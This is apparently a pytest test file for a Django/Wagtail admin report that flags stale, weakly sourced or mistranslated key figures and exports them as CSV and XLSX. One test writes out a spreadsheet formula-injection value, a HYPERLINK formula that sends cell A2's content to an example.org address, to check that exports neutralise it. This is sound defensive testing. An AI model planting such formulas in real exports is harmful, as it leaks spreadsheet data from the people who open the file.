"""The evidence health report (Reports → Evidence health, editorial/reports.py): every key figure and piece of
award evidence, flagged when old, weakly sourced, different between languages or on an out-of-date
translation; filtered; exported as CSV and XLSX."""

import csv
import datetime
import io

import openpyxl
import pytest
import time_machine
from django.utils import timezone

from base.blocks import KeyFiguresBlock
from base.models import SiteSettings
from projects.models import ProgrammePage
from tests import factories
from tests.demo_database import kept

URL = "/admin/reports/evidence-health/"


def figure(block_id, value, *, days_ago=30, url="https://www.comune.torino.it/dati", label="utenti"):
    day = timezone.localdate() - datetime.timedelta(days=days_ago)
    return {
        "type": "figure",
        "id": block_id,
        "value": {
            "value": value,
            "label": label,
            "source_name": "Comune di Torino",
            "source_url": url,
            "reference_date": day.isoformat(),
            "reference_precision": "day",
        },
    }


def store_figures(page, figures):
    """Figures written straight to the database, as older data or another import could have left them."""
    ProgrammePage.objects.filter(pk=page.pk).update(key_figures=figures)


def rows(response):
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


@kept
def flagged(programme, translate):
    """A programme whose figures show each problem once, translated to English two hours before the Italian page's
    last change."""
    SiteSettings.objects.update_or_create(site=programme.get_site(), defaults={"evidence_max_age_months": 12})
    italian = [
        figure("fresh", "1.200"),
        figure("old", "36", days_ago=800),
        figure("nourl", "40", url=""),
        figure("plain", "7", url="http://www.example.org/"),
        figure("translated", "12.000"),
    ]
    store_figures(programme, italian)
    with time_machine.travel(timezone.now() - datetime.timedelta(hours=2)):
        programme = ProgrammePage.objects.get(pk=programme.pk)
        english_page = translate(programme, title="Torino Social Innovation (EN)")
    english = [dict(item) for item in italian]
    english[4] = figure("translated", "13,000")  # a different number, not just another notation
    english[0] = figure("fresh", "1,200")  # the same number in English notation
    store_figures(english_page, english)
    # The Italian page changes after the translation was published (now: no time of the kept state is in the future).
    programme = ProgrammePage.objects.get(pk=programme.pk)
    programme.save_revision().publish()
    return {"it": programme, "en": english_page}


def by_value(found, language):
    return {row["Dato"]: row for row in found if row["Lingua"] == language}


@pytest.mark.django_db
def test_the_report_flags_each_problem_and_exports_it_as_csv(admin_client, flagged):
    found = rows(admin_client.get(URL, {"export": "csv"}))
    italian, english = by_value(found, "it"), by_value(found, "en")

    assert italian["1.200"]["Segnalazioni"] == ""  # recent, https, same number in English
    assert italian["36"]["Segnalazioni"] == "Più vecchio dell'età stabilita"
    assert int(italian["36"]["Età (mesi)"]) >= 26
    assert italian["40"]["Segnalazioni"] == "Fonte senza URL"
    assert italian["7"]["Segnalazioni"] == "Fonte non in https"
    assert italian["12.000"]["Segnalazioni"] == "Diverso tra le lingue"
    assert "Diverso tra le lingue" in english["13,000"]["Segnalazioni"]
    assert "Traduzione più vecchia dell'originale" in english["1,200"]["Segnalazioni"]
    assert "Diverso" not in english["1,200"]["Segnalazioni"]
    assert italian["36"]["Pagina"] == "Torino Social Innovation"
    assert italian["36"]["Fonte"] == "Comune di Torino"
    assert italian["36"]["Modifica"].endswith(f"/admin/pages/{flagged['it'].pk}/edit/")


@pytest.mark.django_db
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(admin_client, programme):
    trap = figure("trap", '=HYPERLINK("https://example.org/?"&A2,"ok")', label="+SUM(A1:A9)")
    store_figures(programme, [trap])
    found = [row for row in rows(admin_client.get(URL, {"export": "csv"})) if "SUM" in row["Che cosa misura"]]
    assert [(row["Dato"], row["Che cosa misura"]) for row in found] == [
        ('\'=HYPERLINK("https://example.org/?"&A2,"ok")', "'+SUM(A1:A9)")
    ]


@pytest.mark.django_db
def test_the_report_exports_xlsx(admin_client, flagged):
    response = admin_client.get(URL, {"export": "xlsx"})

    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    table = [[cell.value for cell in row] for row in sheet.iter_rows()]
    header = table[0]
    flags = {
        (row[header.index("Lingua")], row[header.index("Dato")]): row[header.index("Segnalazioni")] for row in table[1:]
    }
    assert flags[("it", "40")] == "Fonte senza URL"
    assert flags[("it", "36")] == "Più vecchio dell'età stabilita"


@pytest.mark.django_db
def test_the_age_is_the_site_setting(admin_client, flagged):
    SiteSettings.objects.update(evidence_max_age_months=120)

    italian = by_value(rows(admin_client.get(URL, {"export": "csv"})), "it")

    assert italian["36"]["Segnalazioni"] == ""


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        ({"flag": "no_url"}, {("it", "40"), ("en", "40")}),
        ({"flag": "differs"}, {("it", "12.000"), ("en", "13,000")}),
        ({"flag": "old", "language": "en", "page_type": "projects.programmepage"}, {("en", "36")}),
        (
            {"language": "it", "page_type": "projects.programmepage"},
            {("it", v) for v in ["1.200", "36", "40", "7", "12.000"]},
        ),
    ],
)
def test_the_filters_keep_what_they_name(admin_client, flagged, project, filters, expected):
    found = rows(admin_client.get(URL, {"export": "csv", **filters}))

    assert {(row["Lingua"], row["Dato"]) for row in found} == expected


@pytest.mark.django_db
def test_the_programme_filter_keeps_its_projects_in_both_languages(admin_client, flagged, project):
    key = str(flagged["it"].translation_key)

    found = rows(admin_client.get(URL, {"export": "csv", "programme": key}))
    elsewhere = factories.ProgrammePageFactory(parent=flagged["it"].get_parent(), title="Altro", slug="altro")
    other = rows(admin_client.get(URL, {"export": "csv", "programme": str(elsewhere.translation_key)}))

    assert {row["Pagina"] for row in found} >= {
        "Torino Social Innovation",
        "Torino Social Innovation (EN)",
        project.title,
    }
    assert project.title not in {row["Pagina"] for row in other}


@pytest.mark.django_db
def test_award_evidence_without_figures_is_listed(admin_client, programme):
    from candidacy.models import AwardCriterion, ProgrammeEvidence

    criterion = AwardCriterion.objects.create(edition=2024, code="impatto", name="Impatto", order=1)
    ProgrammeEvidence.objects.create(page=programme, criterion=criterion, justification="Cento imprese coinvolte.")

    found = rows(admin_client.get(URL, {"export": "csv"}))

    assert any(
        row["Dove"].endswith("Impatto") and row["Che cosa misura"] == "Cento imprese coinvolte." for row in found
    )


@pytest.mark.django_db
def test_the_report_page_lists_and_filters_without_errors(admin_client, flagged):
    page = admin_client.get(URL, {"flag": "old"})
    results = admin_client.get(URL + "results/", {"flag": "not-a-flag"})

    assert page.status_code == 200 and "36" in page.content.decode()
    assert results.status_code == 200


@pytest.mark.django_db
def test_people_without_page_rights_are_refused(client, django_user_model, programme):
    user = django_user_model.objects.create_user("lettore", password="x")  # noqa: S106
    client.force_login(user)

    response = client.get(URL)

    # No access to the admin at all: sent to its sign-in page, as Wagtail does.
    assert (response.status_code, response["Location"]) == (302, f"/admin/login/?next={URL}")


@pytest.mark.django_db
def test_pictures_in_a_body_are_no_figures_and_no_error(admin_client, editor_client, home_page, image):
    """An ImageBlock is a StructBlock whose value is an image, not a structure to search for figures."""
    page = factories.StandardPageFactory(
        parent=home_page, body=[factories.figure_block(image), factories.key_figures_block()]
    )

    found = rows(admin_client.get(URL, {"export": "csv"}))

    assert admin_client.get("/admin/").status_code == 200
    assert editor_client.get("/admin/").status_code == 200
    figures = [figure["value"]["value"] for figure in KeyFiguresBlock.example()["figures"]]  # the factory's
    assert [row["Dato"] for row in found if row["Pagina"] == page.title] == figures
